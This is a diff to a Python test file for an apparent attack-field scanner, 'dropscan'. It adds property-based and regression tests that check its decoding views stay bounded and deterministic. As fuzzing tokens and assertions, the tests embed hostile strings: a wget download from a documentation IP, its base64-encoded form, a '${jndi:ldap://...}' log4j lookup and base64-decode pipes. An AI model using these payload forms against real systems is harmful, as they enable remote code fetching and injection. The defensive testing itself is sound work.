@@ -3,13 +3,16 @@
 from __future__ import annotations
 
 import time
+from datetime import timedelta
 
 import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
 from dropscan.decode import (
+    MAX_B64_BLOBS,
     MAX_FIELD,
+    _after_last_slashes,
     b64_texts,
     cmd_normalise,
     decode_b64,
@@ -115,32 +118,68 @@ def test_base64_brace_form_is_decoded_then_scanned():
     assert ("base64", "wget http://192.0.2.1/x") in [(v.name, v.text) for v in vs]
 
 
-@settings(max_examples=300, suppress_health_check=[HealthCheck.too_slow], deadline=None)
-@given(
-    st.text(
-        alphabet=st.sampled_from(list("%25uU0123456789abcdefABCDEF+&#;x{}$:-'\"\\`IFSjndi lowerupper,()=/")),
-        max_size=200,
-    )
-)
-def test_views_never_raise_and_stay_bounded(text):
+# Fields as attackers build them: encodings, lookups, quotes, escapes, base64 next to a decoder,
+# characters whose case mapping grows (ﬃ -> FFI), invalid UTF-8 under percent-encoding.
+TOKENS = [
+    *"%25uU0123456789abcdefABCDEF+&#;x{}$:-'\"\\`IFSjndi lowerupper,()=/^\t\x00 ",
+    *("ﬃ", "İ", "ß", "\u202e", "%ff", "%c3", "%u0041", "%uD800", "&#x1F600;", "&#0;", "&amp;", "&Tab;"),
+    *("${", "}", "${lower:", "${upper:", "${::-", "${env:X:-", "${base64:", "${jndi:ldap://h/a}", "${IFS}"),
+    *("\\x41", "\\101", "$'", "{a,b}", "base64 -d ", "d2dldCBodHRwOi8vMTkyLjAuMi4xL3g=", "/Base64/", "-enc "),
+]
+FIELDS = st.one_of(st.lists(st.sampled_from(TOKENS), max_size=60).map("".join), st.text(max_size=200))
+BOUNDED = settings(max_examples=1000, deadline=timedelta(seconds=2), suppress_health_check=[HealthCheck.too_slow])
+
+
+@BOUNDED
+@given(FIELDS)
+def test_every_view_never_raises_and_its_output_is_bounded(text):
+    # never raises, finishes within the deadline, and grows by a small constant factor at most
+    url = url_decode(text)
+    assert len(url) <= len(text) * 4 // 3 + 1  # %ff -> \xff (backslashreplace) is the only growth
+    assert len(cmd_normalise(text)) <= len(text) + MAX_FIELD  # brace lists add at most MAX_FIELD
+    assert len(resolve_lookups(text)) <= 3 * len(text)  # str.upper: ﬃ -> FFI
+    blobs = b64_texts(text)
+    assert len(blobs) <= MAX_B64_BLOBS and all(len(b) <= len(text) for b in blobs)
+    for word in text.split():
+        decoded = decode_b64(word)
+        assert decoded is None or len(decoded) <= len(word)
     vs = views(text)
-    assert vs[0].name == "url"
-    for v in vs:
-        assert isinstance(v.text, str)
-        assert len(v.text) <= 8 * max(len(text), 16)
+    assert vs[0] == ("url", url)
+    assert len({v.text for v in vs}) == len(vs)  # no duplicate views
+    assert all(len(v.text) <= 3 * max(len(text), 16) + MAX_FIELD for v in vs)
 
 
-@settings(max_examples=200, deadline=None)
-@given(st.text(max_size=300))
-def test_views_never_raise_on_any_text(text):
-    views(text)
-
-
-@given(st.text(max_size=100))
-def test_url_decode_reaches_a_fixed_point_or_its_cap(text):
+@BOUNDED
+@given(FIELDS)
+def test_url_decode_is_a_fixed_point_once_nothing_is_left_to_decode(text):
     once = url_decode(text)
-    # percent-decoding a fixed point again changes nothing except a literal '+' (form encoding)
-    assert url_decode(once.replace("+", "%2B")) == once or "%" in once or "&" in once
+    if not any(c in once for c in "%&+"):
+        assert url_decode(once) == once
+    assert "\x00" not in once
+
+
+@BOUNDED
+@given(FIELDS)
+def test_views_are_deterministic(text):
+    assert views(text) == views(text)
+
+
+@pytest.mark.parametrize(
+    ("function", "text", "once", "twice"),
+    [
+        # A shell reads a caret before it reads a backslash, and only once: 0\^0 runs as 0^0.
+        (cmd_normalise, "0\\^0", "0^0", "00"),
+        # log4j substitutes left to right and does not rescan what a lookup produced.
+        (resolve_lookups, "${::-$}{x}", "${x}", ""),
+        # Percent-decoding stops after MAX_ROUNDS layers.
+        (url_decode, "%" + "25" * 10 + "41", "%252541", "A"),
+    ],
+)
+def test_the_views_are_not_idempotent_and_should_not_be(function, text, once, twice):
+    """Each view models one reading by the target (a shell, log4j, a decoder with a cap);
+    applying it twice models a second reading that does not happen, so idempotence is not a
+    property of these views (the safety functions, which are, are tested in test_safe_output)."""
+    assert function(text) == once and function(once) == twice
 
 
 def test_bounded_work_on_hostile_fields():
@@ -150,5 +189,15 @@ def test_bounded_work_on_hostile_fields():
     views("{a," * 30_000)
     views("\\x" * 100_000)
     views("echo " + "QUFB" * 100_000 + " | base64 -d")
+    views("echo " + "a/" * (MAX_FIELD // 2) + " | base64 -d")  # was a copy per slash: 16 GB
+    views("a" * (MAX_FIELD - 2) + "{,")  # the brace word was sought from every position: minutes
+    braces = cmd_normalise("a" * (MAX_FIELD // 2) + "{" + "," * (MAX_FIELD // 4) + "}")  # was 8 G characters
+    assert len(braces) <= 2 * MAX_FIELD
     assert time.perf_counter() - t0 < 10
     assert len(views("a" * (MAX_FIELD * 3))[0].text) == MAX_FIELD
+
+
+@given(st.text(alphabet="ab/", max_size=60), st.integers(0, 6))
+def test_after_last_slashes_is_what_follows_the_last_n_slashes(blob, n):
+    want = [blob[i + 1 :] for i, c in enumerate(blob) if c == "/"][-n:] if n else []
+    assert _after_last_slashes(blob, n) == want
